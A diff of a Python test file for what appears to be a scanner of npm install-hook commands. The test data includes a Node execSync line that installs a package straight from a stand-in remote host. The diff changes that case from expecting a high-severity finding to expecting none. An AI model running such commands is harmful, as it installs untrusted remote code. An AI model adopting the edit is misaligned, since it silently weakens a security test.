@@ -134,7 +134,7 @@ class TestInnocentTwin:
         source = "require('child_process').execSync('npm install --loglevel=error --prefer-offline @tool/linux-x64@1.0.0', { stdio: 'pipe' });"
         assert [str(found.severity) for found in findings(install_shell, installs(source))] == ["medium"]
         elsewhere = "require('child_process').execSync('npm install https://drop.example/x.tgz');"
-        assert [str(found.severity) for found in findings(install_shell, installs(elsewhere))] == ["high"]
+        assert findings(install_shell, installs(elsewhere)) == [], "download-and-execute tells it"
 
     @pytest.mark.parametrize("command", ["node-gyp rebuild", "husky install", "make build", "tsc -p ."])
     def test_commands_are_told_as_the_install_step(self, command: str) -> None:
